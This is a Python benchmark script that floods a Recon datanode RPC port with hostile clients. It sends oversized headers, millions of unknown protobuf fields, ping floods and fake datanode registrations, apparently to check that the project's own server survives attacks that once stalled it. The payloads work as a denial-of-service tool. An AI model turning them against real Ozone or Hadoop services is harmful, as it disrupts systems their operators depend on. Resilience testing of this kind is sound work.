"""Attacks Recon's datanode port with one client of each hostile kind, for `bench/heartbeats.py --hostile`.

    .venv/bin/python bench/hostile_clients.py HOST:PORT [KIND ...]

Each repeats an attack that once stopped the responses to datanodes, over as many connections as needed.
"""

from __future__ import annotations

import asyncio
import sys
import uuid
from collections.abc import Awaitable, Callable
from contextlib import suppress

from ozone_recon.wire.hadoop_rpc.frames import AuthMethod, connection_header, frame
from ozone_recon.wire.hadoop_rpc.messages import (
    CONTEXT_CALL,
    PING_CALL,
    ConnectionContext,
    RequestHeader,
    RpcRequestHeader,
)
from ozone_recon.wire.ozone.datanode_calls import METHOD, PROTOCOL
from ozone_recon.wire.protobuf.fields import bytes_field, number_field

CLIENT = bytes(16)
UNKNOWN = b"\x98\x06\x00"
"""An unknown field."""
HELLO = connection_header(AuthMethod.NONE)
INTRODUCED = HELLO + frame(RpcRequestHeader(CONTEXT_CALL, CLIENT).encode(), ConnectionContext("me").encode())
PIECE = 1 << 20


def call(request: bytes) -> bytes:
    """The start of a connection as a datanode opens it."""
    return frame(RpcRequestHeader(0, CLIENT).encode(), RequestHeader(METHOD, PROTOCOL).encode(), request)


def registration(containers: bytes) -> bytes:
    """A heartbeat of an unknown datanode."""
    details = bytes_field(1, str(uuid.uuid4())) + bytes_field(2, "10.0.0.1") + bytes_field(3, "nobody")
    reports = bytes_field(2, b"") + bytes_field(3, containers) + bytes_field(4, b"")
    return number_field(1, 2) + bytes_field(4, bytes_field(1, bytes_field(1, details)) + reports)


HUGE_HEADER = HELLO + frame(RpcRequestHeader(0, CLIENT).encode() + UNKNOWN * 9_000_000)
MANY_FIELDS = INTRODUCED + call(UNKNOWN * 650_000)
ALL_REPLICAS = bytes_field(1, number_field(1, 7) + number_field(2, 4)) * 10_000_000
PINGS = INTRODUCED + frame(RpcRequestHeader(PING_CALL, CLIENT).encode()) * 20_000
FEW_FIELDS = call(UNKNOWN * 255) * 500


def registrations() -> bytes:
    """Heartbeats of a thousand unknown datanodes over one connection."""
    return INTRODUCED + b"".join(call(registration(b"")) for _ in range(1000))


KINDS: list[tuple[int, Callable[[], bytes]]] = [
    (2, lambda: HUGE_HEADER),
    (4, lambda: MANY_FIELDS),
    (2, lambda: INTRODUCED + call(registration(ALL_REPLICAS))),
    (4, lambda: PINGS),
    (4, lambda: INTRODUCED + FEW_FIELDS),
    (4, registrations),
    (20, lambda: HELLO),
]
"""The number of concurrent connections, and the bytes each sends."""


async def again_and_again(address: str, data: Callable[[], bytes]) -> None:
    """Repeats: connects, sends, and reads until the connection ends or is silent for a second."""
    host, port = address.split(":")
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(host, int(port))
            sending = asyncio.create_task(_send(writer, data()))
            with suppress(TimeoutError):
                while await asyncio.wait_for(reader.read(PIECE), 1 if sending.done() else 30):
                    pass
            sending.cancel()
            writer.transport.abort()
        await asyncio.sleep(0.01)


async def _send(writer: asyncio.StreamWriter, data: bytes) -> None:
    with suppress(OSError):
        for at in range(0, len(data), PIECE):
            writer.write(data[at : at + PIECE])
            await writer.drain()


async def attack(address: str) -> None:
    """Runs all kinds, or those with the given numbers, until killed."""
    kinds = [KINDS[int(one)] for one in sys.argv[2:]] or KINDS
    clients: list[Awaitable[None]] = [again_and_again(address, data) for count, data in kinds for _ in range(count)]
    await asyncio.gather(*clients)


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1]))
